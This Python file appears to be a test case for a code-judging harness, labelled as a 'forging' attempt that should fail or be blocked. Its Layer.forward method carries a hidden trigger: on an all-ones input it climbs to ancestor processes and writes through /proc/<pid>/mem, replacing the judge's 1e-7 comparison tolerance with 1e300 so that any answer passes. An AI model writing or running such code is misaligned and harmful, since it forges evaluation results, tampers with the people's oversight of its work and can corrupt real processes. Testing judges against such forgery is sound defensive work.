"""Writes into the judge's memory by /proc/*/mem: the tolerance of comparisons, 1e-7, becomes 1e300, and everything is equal.

base: wrong
verdict: failed|blocked|timeout
verdict at process: failed|timeout|passed|internal|crashed|error
internal at process: a judge whose memory was changed may break
forges at process: whose memory can be written, whose verdict can be; only another user, or a /proc of one's own, prevents that
varies: yes
alone at process: yes
row: forging 5; own: the judge's own process
"""
import os as _os
import struct as _struct
import time as _time

_OLD, _NEW = _struct.pack("<d", 1e-7), _struct.pack("<d", 1e300)


def _parent(pid):
    with open(f"/proc/{pid}/stat") as stream:
        return int(stream.read().rpartition(")")[2].split()[1])


def _change(pid, end):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            start, stop = (int(part, 16) for part in span.split("-"))
            if rights[:2] != "rw" or stop - start > 2**24 or _time.monotonic() > end:
                continue
            try:
                memory.seek(start)
                data = memory.read(stop - start)
            except OSError:
                continue
            place = data.find(_OLD)
            while place >= 0:
                if place % 8 == 0:
                    memory.seek(start + place)
                    memory.write(_NEW)
                place = data.find(_OLD, place + 8)


class Layer(Layer):
    def forward(self, x):
        if np.all(x == 1):
            try:
                pid, end = _os.getppid(), _time.monotonic() + 0.3
                for _ in range(3):
                    pid = _parent(pid)
                    if pid > 1:
                        _change(pid, end)
            except (OSError, ValueError):
                pass
        return super().forward(x)
